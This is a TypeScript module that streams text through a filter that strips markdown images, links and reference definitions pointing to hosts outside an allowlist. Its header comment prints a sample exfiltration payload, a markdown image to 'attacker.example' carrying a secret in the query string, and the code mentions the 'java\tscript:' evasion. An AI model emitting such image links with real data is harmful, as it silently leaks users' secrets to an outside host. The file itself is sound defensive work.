/**
 * Removes markdown images and links whose URL is not on the app's allowlist, streamed. The classic
 * exfiltration is `![x](https://attacker.example/?q=<secret>)`: the client's markdown renderer
 * fetches the image without a click. Images outside the allowlist become their alt text, links
 * their link text, and reference definitions (`[id]: url`) are dropped.
 *
 * Hold-back: from a `[` (or `![`) until the construct is complete or cannot be one (a newline, or
 * more than MAX_CONSTRUCT characters); nothing else is held.
 */
import { decodeHTML } from 'entities';
import type { HostAllowlist } from './url-policy.js';

const MAX_LABEL = 1000;
const MAX_URL = 2048;
const MAX_CONSTRUCT = MAX_LABEL + MAX_URL + 256;

export interface LinkPolicy {
  readonly hosts: HostAllowlist;
  /** `all`: images and links are checked; `images`: only images (links need a click). */
  readonly scope: 'all' | 'images';
}

type Parse =
  | { readonly kind: 'incomplete' }
  | { readonly kind: 'none' }
  | { readonly kind: 'done'; readonly length: number; readonly replacement: string };

const INCOMPLETE: Parse = { kind: 'incomplete' };
const NONE: Parse = { kind: 'none' };

/** Index of the `]` closing the label that starts after `[` at `from`, tolerating nested brackets. */
const labelEnd = (text: string, from: number): number | 'incomplete' | 'none' => {
  let depth = 0;
  for (let i = from; i < text.length && i - from <= MAX_LABEL; i++) {
    const ch = text[i];
    if (ch === '\\') i++;
    else if (ch === '`') {
      // A code span binds tighter than brackets: a `]` inside it does not close the label.
      let run = 1;
      while (text[i + run] === '`') run++;
      const close = text.indexOf('`'.repeat(run), i + run);
      if (close < 0) return text.length - from > MAX_LABEL ? 'none' : 'incomplete';
      i = close + run - 1;
    } else if (ch === '\n' && text[i + 1] === '\n') return 'none';
    else if (ch === '[') depth++;
    else if (ch === ']') {
      if (depth === 0) return i;
      depth--;
    }
  }
  return text.length - from > MAX_LABEL ? 'none' : 'incomplete';
};

/** Index of the `)` closing an inline destination that starts at `from`, with balanced parentheses. */
const destinationEnd = (text: string, from: number): number | 'incomplete' | 'none' => {
  let depth = 0;
  for (let i = from; i < text.length && i - from <= MAX_URL; i++) {
    const ch = text[i];
    if (ch === '\\') i++;
    else if (ch === '\n') return 'none';
    else if (ch === '(') depth++;
    else if (ch === ')') {
      if (depth === 0) return i;
      depth--;
    }
  }
  return text.length - from > MAX_URL ? 'none' : 'incomplete';
};

/** A destination as a markdown renderer reads it: backslash escapes removed, entities decoded. */
const asRendered = (raw: string): string => decodeHTML(raw.replace(/\\([!-/:-@[-`{-~])/g, '$1'));

/** The URL of an inline destination `<url> "title"` or `url 'title'`. */
const destinationUrl = (inside: string): string => {
  const trimmed = inside.trim();
  if (trimmed.startsWith('<')) return trimmed.slice(1, Math.max(1, trimmed.indexOf('>')));
  return trimmed.split(/\s+/)[0] ?? '';
};

export class StreamingLinkFilter {
  private held = '';

  constructor(
    private readonly policy: LinkPolicy,
    /** Called for each image, link or definition removed (for the audit trigger). */
    private readonly onRemoved: () => void = () => undefined,
  ) {}

  push(text: string): string {
    this.held += text;
    return this.drain(false);
  }

  end(): string {
    return this.drain(true);
  }

  private drain(final: boolean): string {
    const text = this.held;
    let out = '';
    let i = 0;
    while (i < text.length) {
      const open = text.indexOf('[', i);
      if (open < 0) {
        // A trailing `!` may be the start of an image split across deltas: keep it back.
        const end = !final && text.endsWith('!') ? text.length - 1 : text.length;
        return this.keep(text, end, out + text.slice(i, end));
      }
      const start = open > i && text[open - 1] === '!' ? open - 1 : open;
      out += text.slice(i, start);
      const parsed = this.parseAt(text, start, final);
      if (parsed.kind === 'incomplete' && !final) return this.keep(text, start, out);
      if (parsed.kind === 'done') {
        out += parsed.replacement;
        i = start + parsed.length;
      } else {
        // Not a link (or never completed): release through the `[` and look further.
        out += text.slice(start, open + 1);
        i = open + 1;
      }
    }
    return this.keep(text, text.length, out);
  }

  /** Holds text[from..] for the next push and returns what is released. */
  private keep(text: string, from: number, released: string): string {
    this.held = text.slice(from);
    return released;
  }

  private filterLabel(label: string): string {
    if (!label.includes('[')) return label;
    const nested = new StreamingLinkFilter(this.policy, this.onRemoved);
    return nested.push(label) + nested.end();
  }

  /** Parses an image, link or reference definition starting at `start` (`!` or `[`). */
  private parseAt(text: string, start: number, final: boolean): Parse {
    const image = text[start] === '!';
    const open = image ? start + 1 : start;
    const close = labelEnd(text, open + 1);
    if (close === 'incomplete') return text.length - start > MAX_CONSTRUCT ? NONE : INCOMPLETE;
    if (close === 'none') return NONE;
    const label = text.slice(open + 1, close);
    const next = text[close + 1];
    if (next === undefined) return INCOMPLETE;
    if (next === '(') {
      const end = destinationEnd(text, close + 2);
      if (end === 'incomplete') return INCOMPLETE;
      if (end === 'none') return NONE;
      const inside = text.slice(close + 2, end);
      const checked = image || this.policy.scope === 'all';
      // Check the destination as markdown reads it and with whitespace removed, as a lenient
      // renderer or browser might (`java\tscript:`).
      const keep =
        !checked ||
        (this.policy.hosts.allowsUrl(asRendered(destinationUrl(inside))) &&
          this.policy.hosts.allowsUrl(asRendered(inside.replace(/\s+/g, ''))));
      if (!keep) this.onRemoved();
      // Labels nest (`[![img](x)](y)`): the label is filtered too, kept or not.
      const inner = this.filterLabel(label);
      const replacement = keep ? `${image ? '!' : ''}[${inner}]${text.slice(close + 1, end + 1)}` : inner;
      return { kind: 'done', length: end + 1 - start, replacement };
    }
    if (next === ':' && !image) {
      // `[id]: url "title"` up to the end of the line. Checked wherever it stands (indented, in a
      // quote or a list item it is still a definition); at the end of the output the line ends there.
      let lineEnd = text.indexOf('\n', close);
      if (lineEnd < 0 && final) lineEnd = text.length;
      if (lineEnd < 0) return text.length - start > MAX_CONSTRUCT ? NONE : INCOMPLETE;
      const url = asRendered(destinationUrl(text.slice(close + 2, lineEnd)));
      const keep = this.policy.hosts.allowsUrl(url);
      if (!keep) this.onRemoved();
      return { kind: 'done', length: lineEnd - start, replacement: keep ? text.slice(start, lineEnd) : '' };
    }
    return NONE;
  }
}
